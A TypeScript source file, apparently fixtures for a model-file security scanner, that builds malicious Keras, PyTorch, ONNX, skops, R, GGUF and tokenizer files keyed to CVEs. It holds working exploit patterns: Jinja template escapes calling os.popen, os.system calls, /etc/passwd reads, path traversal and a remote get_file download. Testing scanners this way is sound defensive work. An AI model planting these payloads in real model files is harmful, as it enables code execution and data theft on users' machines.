import { type Attack, attack, doubtful, repository } from './attack.ts'
import { tar, zip } from './make-archive.ts'
import {
  exampleOf,
  functionOf,
  gguf,
  keras,
  kerasConfig,
  LAMBDA,
  lambda,
  layer,
  node,
  npy,
  onnx,
  promise,
  skops,
  torch,
  torchScript,
} from './make-model.ts'
import { call, EMPTY, named, PAYLOAD, stream, text, tuple } from './make-pickle.ts'

const text1 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1')
const kerasOf = (...layers: readonly unknown[]) => keras(kerasConfig(layers))
const TEMPLATE =
  "{{ ''.__class__.__base__.__subclasses__()[0].__init__.__globals__['os'].popen('echo sallyport') }}"
const CONFIG_WHY = 'it acts only for who trusts code of the repository'

/** A tensor of torch of one number, whose storage says how many numbers it holds. */
function tensor(storageType: string, count: number): string {
  const storage = tuple(
    text('storage'),
    named('torch', storageType),
    text('0'),
    text('cpu'),
    `K${String.fromCharCode(count)}`,
  )
  return call(
    named('torch._utils', '_rebuild_tensor_v2'),
    `${storage}Q`,
    'K\x00',
    tuple('K\x01'),
    tuple('K\x01'),
    '\x89',
    call(named('collections', 'OrderedDict')),
  )
}

const KERAS: readonly Attack[] = [
  attack(
    'CVE-2024-3660 protectai/modelscan promptfoo/modelaudit#687',
    'a Lambda layer with compiled code',
    'lambda.keras',
    kerasOf(lambda()),
  ),
  attack(
    'CVE-2024-3660 CVE-2025-9905',
    'a Lambda layer in HDF5, which safe mode does not guard',
    'lambda.h5',
    exampleOf('keras/lambda-active', 'a.h5'),
  ),
  attack(
    'CVE-2026-12481',
    'a Lambda layer in the configuration alone, outside safe mode',
    'architecture.json',
    kerasConfig([lambda()]),
  ),
  attack(
    'protectai/modelscan',
    'a Lambda layer inside layers inside layers',
    'nested.keras',
    kerasOf(
      layer('keras.layers', 'TimeDistributed', {
        name: 't',
        layer: layer('keras.layers', 'Bidirectional', { name: 'b', layer: lambda() }),
      }),
    ),
  ),
  attack(
    'promptfoo/modelaudit#687',
    'a Lambda layer behind ten thousand spaces',
    'padded.keras',
    keras(`${' '.repeat(10_000)}${kerasConfig([lambda()])}`),
  ),
  attack(
    'promptfoo/modelaudit',
    'a Lambda layer that says it is registered as another class',
    'spoofed.keras',
    kerasOf(lambda({ registered_name: 'Custom>Dense' })),
  ),
  attack(
    'promptfoo/modelaudit#687',
    'a Lambda layer in build_config',
    'build.keras',
    kerasOf(layer('keras.layers', 'Dense', { name: 'd', units: 1 }, { build_config: { x: lambda() } })),
  ),
  attack(
    'promptfoo/modelaudit#687',
    'a Lambda layer of Keras 2 inside .keras',
    'old.keras',
    kerasOf({
      class_name: 'Lambda',
      config: { name: 'l', function: [LAMBDA, null, null], function_type: 'lambda', module: '__main__' },
    }),
  ),
  attack(
    'CVE-2025-1550',
    'a function of any module is named as an activation',
    'function.keras',
    kerasOf(functionOf('os', 'system')),
  ),
  attack(
    'CVE-2025-8747',
    'keras.utils.get_file downloads',
    'get-file.keras',
    kerasOf(functionOf('keras.utils', 'get_file')),
  ),
  attack(
    'CVE-2025-9906',
    'the configuration switches safe mode off, then brings a Lambda layer',
    'unsafe.keras',
    kerasOf(functionOf('keras.config', 'enable_unsafe_deserialization'), lambda()),
  ),
  attack(
    'CVE-2025-49655',
    'TorchModuleWrapper unpickles a module',
    'torch-module.keras',
    kerasOf(
      layer('keras.layers', 'TorchModuleWrapper', {
        module: Buffer.from(PAYLOAD.padEnd(80), 'latin1').toString('base64'),
      }),
    ),
  ),
  attack(
    'CVE-2025-12058',
    'StringLookup reads its vocabulary from any file',
    'vocabulary.keras',
    kerasOf(layer('keras.layers', 'StringLookup', { name: 's', vocabulary: '/etc/passwd' })),
  ),
  attack(
    'CVE-2025-12060',
    'get_file unpacks a tar that climbs out',
    'extract.keras',
    kerasOf(layer('keras.utils', 'get_file', { origin: 'http://192.0.2.1/a.tar', extract: true })),
  ),
  attack(
    'CVE-2026-1462',
    'TFSMLayer loads a SavedModel from elsewhere',
    'saved.keras',
    kerasOf(layer('keras.layers', 'TFSMLayer', { name: 't', filepath: '/tmp/sallyport' })),
  ),
  attack(
    'CVE-2026-1669',
    'the weights stand in another file: external storage of HDF5',
    'external.keras',
    keras(kerasConfig([]), ['model.weights.h5', text1(exampleOf('hdf/external-storage', 'a.h5'))]),
  ),
  attack(
    'CVE-2026-1669',
    'the weights stand in another file: a link of HDF5',
    'link.h5',
    exampleOf('hdf/outside-link', 'a.h5'),
  ),
  doubtful(
    'it fills the memory, and does nothing else',
    attack(
      'CVE-2026-0897',
      'a dataset whose shape fills the memory',
      'shape.keras',
      keras(kerasConfig([]), ['model.weights.h5', text1(exampleOf('hdf/shape-bomb', 'a.h5'))]),
    ),
  ),
  attack(
    'CVE-2026-12479',
    'the name of a layer is a path',
    'path.keras',
    kerasOf(layer('keras.layers', 'Dense', { name: '../../sallyport', units: 1 })),
  ),
]

const TORCH: readonly Attack[] = [
  attack(
    'CVE-2025-32434',
    'torch.load with weights_only takes TorchScript, whose code writes a file',
    'writes.pt',
    torchScript('_0 = torch.save(x, "/tmp/sallyport")'),
  ),
  attack(
    'CVE-2025-32434',
    'torch.load with weights_only takes TorchScript, whose code reads a file',
    'reads.pt',
    torchScript('y = torch.from_file("/etc/passwd", False, 10)'),
  ),
  doubtful(
    'it breaks memory only in old versions; no writer makes it',
    attack(
      'CVE-2026-24747',
      'SETITEM on a tensor, which the unpickler of weights takes',
      'setitem.pt',
      torch(stream(tensor('FloatStorage', 1), 'K\x00', 'K\x01', 's')),
    ),
  ),
  doubtful(
    'it breaks memory only in old versions; no writer makes it',
    attack(
      'CVE-2026-24747',
      'a storage that claims more numbers than it holds',
      'storage.pt',
      torch(stream(tensor('FloatStorage', 200))),
    ),
  ),
  attack(
    'CVE-2022-45907',
    'a type comment that is evaluated',
    'comment.pt',
    exampleOf('torchscript/type-comment', 'a.pt'),
  ),
  attack(
    'CVE-2024-5480',
    'TorchScript calls another machine',
    'remote.pt',
    exampleOf('torchscript/remote-call', 'a.pt'),
  ),
]

const GRAPHS: readonly Attack[] = [
  attack(
    'CVE-2022-25882',
    'data of a tensor stand above the folder',
    'climb.onnx',
    onnx('../../../etc/passwd'),
  ),
  attack(
    'CVE-2022-25882',
    'data of a tensor stand at an absolute path',
    'absolute.onnx',
    onnx('/etc/passwd'),
  ),
  attack(
    'CVE-2024-27318',
    'the path climbs behind a folder that a filter expects',
    'nested.onnx',
    onnx('data/../../../etc/passwd'),
  ),
  attack(
    'CVE-2025-51480',
    'saving the model overwrites what the path names',
    'overwrite.onnx',
    onnx('../sallyport.pth'),
  ),
  doubtful(
    'what unpacks the archive may refuse the link',
    attack(
      'CVE-2026-34447',
      'data of a tensor are a symbolic link',
      'link.onnx.tar',
      tar([
        { name: 'model.onnx', text: onnx('weights.bin') },
        { name: 'weights.bin', link: '/etc/passwd' },
      ]),
    ),
  ),
  doubtful(
    'what unpacks the archive may refuse the link',
    attack(
      'CVE-2026-34447',
      'the same in ZIP',
      'link.onnx.zip',
      zip([
        { name: 'model.onnx', text: onnx('weights.bin') },
        { name: 'weights.bin', text: '/etc/passwd', mode: 0o120777 },
      ]),
    ),
  ),
  doubtful(
    'it hangs old versions, and does nothing else',
    attack(
      'CVE-2022-24294',
      'the name of an operator that a regular expression never finishes with',
      'net-symbol.json',
      JSON.stringify({
        nodes: [{ op: `${'a'.repeat(5000)}!`, name: 'x', inputs: [] }],
        arg_nodes: [0],
        heads: [[0, 0, 0]],
      }),
    ),
  ),
]

const TABULAR: readonly Attack[] = [
  attack('CVE-2019-6446', 'an array of objects', 'objects.npy', npy(PAYLOAD)),
  attack(
    'CVE-2024-27322',
    'a promise of R that runs when it is looked at',
    'promise.rds',
    promise('system', 'echo sallyport'),
  ),
  attack(
    'CVE-2024-37065',
    'skops builds any function that a reader has to trust',
    'function.skops',
    skops(node('FunctionNode', 'builtins.eval', { content: { module_path: 'os', function: 'system' } })),
  ),
  attack(
    'CVE-2025-54412',
    'OperatorFuncNode calls what its names say, whatever was shown',
    'operator.skops',
    skops(
      node('OperatorFuncNode', 'builtins.exec', {
        attrs: node('TupleNode', 'builtins.tuple', {
          content: [node('JsonNode', 'builtins.str', { content: '"print(1)"', is_json: true })],
        }),
      }),
    ),
  ),
  attack(
    'CVE-2025-54413',
    'MethodNode fetches any attribute of what it holds',
    'method.skops',
    skops(
      node('MethodNode', 'builtins.method', {
        content: { func: '__globals__', obj: node('TypeNode', 'builtins.type', { content: 'os' }) },
      }),
    ),
  ),
  attack(
    'CVE-2025-54886',
    'Card.get_model falls back to joblib: a pickle with the ending of skops',
    'model.skops',
    PAYLOAD,
  ),
]

const TEXTS: readonly Attack[] = [
  attack(
    'CVE-2025-23304',
    'the configuration of NeMo names what Hydra calls',
    'model.nemo',
    tar([
      { name: './model_config.yaml', text: "encoder:\n  _target_: os.system\n  command: 'echo sallyport'\n" },
    ]),
  ),
  attack(
    'CVE-2025-23304 Unit-42',
    'the same in a configuration as JSON (Uni2TS, FlexTok)',
    'config.json',
    JSON.stringify({ module_kwargs: { _target_: 'builtins.exec', _args_: ['print(1)'] } }),
  ),
  attack(
    'CVE-2024-34359',
    'a chat template of GGUF reaches the classes of Python',
    'template.gguf',
    gguf('tokenizer.chat_template', TEMPLATE),
  ),
  attack(
    'CVE-2026-5760',
    'the same for the ranking of SGLang',
    'rank.gguf',
    gguf('tokenizer.chat_template', `The answer can only be "yes" or "no".${TEMPLATE}`),
  ),
  attack(
    'CVE-2024-34359',
    'a chat template of a tokenizer does',
    'tokenizer_config.json',
    JSON.stringify({ tokenizer_class: 'LlamaTokenizer', chat_template: TEMPLATE }),
  ),
  attack(
    'Pillar NeuralTrust',
    'a chat template without code that changes the answer when a word is seen',
    'chat_template.jinja',
    exampleOf('jinja/armed-trigger', 'chat_template.jinja'),
  ),
]

const WORDS_WHY = 'nothing acts: what is said is changed'

const TOKENIZERS: readonly Attack[] = [
  doubtful(
    WORDS_WHY,
    attack(
      'NVIDIA-tokenizers',
      'a token of a tokenizer takes the place of a word',
      'tokenizer.json',
      JSON.stringify({
        added_tokens: [{ id: 1, content: 'deny', special: true }],
        model: { type: 'BPE', vocab: { '<unk>': 0, allow: 1 }, merges: [] },
      }),
    ),
  ),
  doubtful(
    WORDS_WHY,
    attack(
      'NVIDIA-tokenizers',
      'a decoder writes another address than the model said',
      'tokenizer.json',
      JSON.stringify({
        added_tokens: [],
        decoder: { type: 'Replace', pattern: { String: '//bank.example' }, content: '//bank.example.net' },
        model: { type: 'BPE', vocab: { '<unk>': 0 }, merges: [] },
      }),
    ),
  ),
]

const REPOSITORIES: readonly Attack[] = [
  doubtful(
    CONFIG_WHY,
    attack(
      'Rusty-Link',
      'the same inside of an archive',
      'model.zip',
      zip([
        {
          name: 'm/config.json',
          text: '{"model_type": "acme", "auto_map": {"AutoModel": "other/acme--modeling_acme.Acme"}}',
        },
        { name: 'm/vocab.txt', text: 'a' },
      ]),
    ),
  ),
  doubtful(
    CONFIG_WHY,
    repository('Rusty-Link', 'the configuration fetches code from another repository', {
      'config.json': JSON.stringify({
        model_type: 'acme',
        auto_map: { AutoModel: 'other/acme--modeling_acme.Acme' },
      }),
    }),
  ),
  repository('Rusty-Link promptfoo/modelaudit', 'a harmless name of a class leads to code that acts', {
    'config.json': JSON.stringify({
      architectures: ['BertModel'],
      auto_map: { AutoModel: 'modeling_bert.BertModel' },
    }),
    'modeling_bert.py': "import os\nos.system('id')\n",
  }),
  repository('promptfoo/modelaudit', 'a start file of Python beside the model', {
    'model.bin': EMPTY,
    'sallyport.pth': "import os; os.system('echo sallyport')\n",
  }),
]

export const MODEL_ATTACKS: readonly Attack[] = [
  ...KERAS,
  ...TORCH,
  ...GRAPHS,
  ...TABULAR,
  ...TEXTS,
  ...TOKENIZERS,
  ...REPOSITORIES,
]
